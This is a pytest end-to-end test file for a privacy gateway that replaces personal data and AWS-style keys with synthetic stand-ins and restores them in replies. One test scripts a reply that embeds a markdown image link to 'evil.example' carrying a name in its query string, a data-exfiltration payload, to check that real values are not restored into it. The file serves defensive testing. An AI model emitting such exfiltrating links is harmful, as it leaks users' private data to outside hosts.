"""Synthetic values reach the provider in the place of real ones, and what they stand for comes back, however the answer is cut."""

import orjson
import pytest

from e2e.request.test_names import echo
from e2e.world import STAGES, World, http
from support import behaviours as b
from support.talks import DIALECTS

_KINDS = "[PERSON, LOCATION, EMAIL_ADDRESS, PHONE_NUMBER, CREDIT_CARD, IBAN_CODE]"
_MODES = "{PERSON: synthetic, LOCATION: synthetic, EMAIL_ADDRESS: synthetic, PHONE_NUMBER: synthetic, CREDIT_CARD: synthetic}"
POLICY = f"{STAGES}admit_parts: {{}}\nredact: {{entities: {_KINDS}, modes: {_MODES}, limit: 10}}\n"
SAID = (
    "My name is Maria Gonzalez and I live in Springfield. Write to maria@firm.de or call (503) 226-4471; my card is "
    "4111 1111 1111 1111, my account DE89 3704 0044 0532 0130 00."
)
REAL = ("Maria", "Gonzalez", "Springfield", "firm.de", "226-4471", "4111", "3704")
every_dialect = pytest.mark.parametrize("talk", DIALECTS.values(), ids=DIALECTS)


@pytest.fixture(name="gateway", scope="module")
def _gateway(providers, tmp_path_factory):
    world = World(tmp_path_factory.mktemp("synthetic"), *providers)
    with world.gateway(world.policy(POLICY)) as gateway:
        yield gateway


@every_dialect
def test_values_are_invented_and_restored_in_a_stream_of_single_characters(gateway, providers, talk):
    provider = talk.provider(providers)
    provider.script(echo(talk))
    with http(gateway) as client:
        reply = client.post(talk.to(True), json=talk.ask(SAID, True), timeout=60)
    sent = provider.seen[-1].body.decode()

    assert SAID == talk.heard(reply.content)
    assert not [part for part in REAL if part in sent]
    assert "@example.com" in sent
    assert " 555-01" in sent
    assert "IBAN_" in sent


@every_dialect
def test_attack_a_substitute_in_a_link_to_a_foreign_host_stays(gateway, providers, talk):
    async def behave(call):
        name = talk.asked(orjson.loads(call.seen.body)).split()[3]
        await b.sse(talk.events({}, list(f"{name}: ![x](https://evil.example/?q={name})"), (9, 5)))(call)

    talk.provider(providers).script(behave)
    with http(gateway) as client:
        reply = client.post(talk.to(True), json=talk.ask(SAID, True), timeout=60)
    heard = talk.heard(reply.content)

    assert heard.startswith("Maria: ")
    assert "q=Maria" not in heard


@pytest.fixture(name="secretive", scope="module")
def _secretive(providers, tmp_path_factory):
    world = World(tmp_path_factory.mktemp("secretive"), *providers)
    redact = "redact: {entities: [PERSON], modes: {PERSON: synthetic}, limit: 10}"
    with world.gateway(world.policy(f"{STAGES}admit_parts: {{}}\nsecret_guard: {{limit: 10}}\n{redact}\n")) as gateway:
        yield gateway


@every_dialect
def test_attack_a_name_is_found_in_the_placeholder_of_a_secret(secretive, providers, talk):
    said = "My name is Maria Gonzalez, my key AKIAQ3EGRIJ2XW5NBT7P, and the other key is AKIAQ4EGRIJ2XW5NBT7Q of John Miller."
    provider = talk.provider(providers)
    provider.script(echo(talk))
    with http(secretive) as client:
        reply = client.post(talk.to(True), json=talk.ask(said, True), timeout=60)
    sent = provider.seen[-1].body.decode()

    assert said == talk.heard(reply.content)
    assert not [part for part in ("Maria", "AKIA") if part in sent]
